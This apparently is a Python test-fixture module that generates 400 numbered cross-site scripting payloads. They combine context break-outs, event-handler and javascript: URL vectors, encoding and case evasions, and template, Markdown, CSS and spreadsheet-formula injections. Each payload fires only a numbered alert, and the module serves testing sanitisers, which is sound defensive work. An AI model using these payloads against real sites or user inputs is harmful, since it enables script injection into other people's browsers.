"""400 texts that would run a script if a page took them as they are, each with a number of its own to be known by.

Markup that runs, in every context it may have to break out of first; handlers that break out of an attribute; and what
templates, links, Markdown, style sheets and encodings are known for.
"""

CONTEXTS = (
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</option></select>", "</a>",
    "</p></div>", "</template>", "</svg>", "</td></tr></table>", "\\\">",
)  # fmt: skip
"""What has to be closed before markup counts: nothing, an attribute, raw text, a comment, an element."""

VECTORS = (
    "<script>RUN</script>", "<script src=data:text/javascript,RUN></script>", "<img src=x onerror=RUN>",
    "<svg onload=RUN>", "<svg/onload=RUN//", "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<iframe src='javascript:parent.RUN'></iframe>", "<details open ontoggle=RUN>x</details>",
    "<video><source onerror=RUN></video>", "<audio src onerror=RUN></audio>", "<input autofocus onfocus=RUN>",
    "<object data='javascript:RUN'></object>", "<embed src='javascript:RUN'>",
    "<style>@keyframes k{}</style><b style=animation-name:k onanimationstart=RUN>",
    "<math><mtext></mtext><img src onerror=RUN></math>",
    "<button popovertarget=p>x</button><p popover id=p onbeforetoggle=RUN>",
    "<a href=javascript:RUN id=x tabindex=1 onfocus=RUN autofocus>x</a>",
    "<form action='javascript:RUN'><button>x</button></form>",
)  # fmt: skip

QUOTES = ('" ', "' ", "` ", '"/', "'/", '"\n', "'\t", " ")
HANDLERS = (
    "autofocus onfocus=RUN x=", "onmouseover=RUN x=", "onpointerrawupdate=RUN x=",
    "style=animation-name:k onanimationend=RUN x=",
    "accesskey=x onclick=RUN x=", "hx-on:load=RUN hx-get=/ hx-trigger=load x=",
)  # fmt: skip

OTHERS = (
    "<base href=//example.invalid/RUN>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<link rel=stylesheet href=x onerror=RUN>", "<body onload=RUN>", "<frameset onload=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<ScRiPt>RUN</sCrIpT>", "<script\n>RUN</script\n>", "<<script>RUN//<</script>", "<img src=x onerror\n=\nRUN>",
    "<img\tsrc=x\tonerror=RUN>", "<img/src=x/onerror=RUN>", "<!--><img src onerror=RUN>-->",
    "<![CDATA[><img src onerror=RUN>]]>", "<?xml version='1.0'?><img src onerror=RUN>",
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;img src onerror=RUN&#62;", "&amp;lt;svg onload=RUN&amp;gt;",
    "%3Cscript%3ERUN%3C/script%3E", "\\u003cscript\\u003eRUN\\u003c/script\\u003e", "\\x3cimg src onerror=RUN\\x3e",
    "\uff1cscript\uff1eRUN\uff1c/script\uff1e", "{{constructor.constructor('RUN')()}}", "${RUN}",
    "{% debug %}{{ request }}{# RUN #}", "javascript:RUN", "[x](javascript:RUN)", "![x](x\" onerror=\"RUN)",
    "<javascript:RUN>", "[x]: javascript:RUN \"x\"", "=HYPERLINK(\"javascript:RUN\")", "@import 'javascript:RUN';",
)  # fmt: skip


def _all() -> tuple[str, ...]:
    texts = [context + vector for context in CONTEXTS for vector in VECTORS]
    texts += [quote + handler for quote in QUOTES for handler in HANDLERS]
    texts += OTHERS
    return tuple(text.replace("RUN", f"alert({number})") for number, text in enumerate(texts, start=1))


PAYLOADS = _all()
SAMPLE = PAYLOADS[::7]
"""Of every kind some, for the suite; ``make proof`` takes all."""
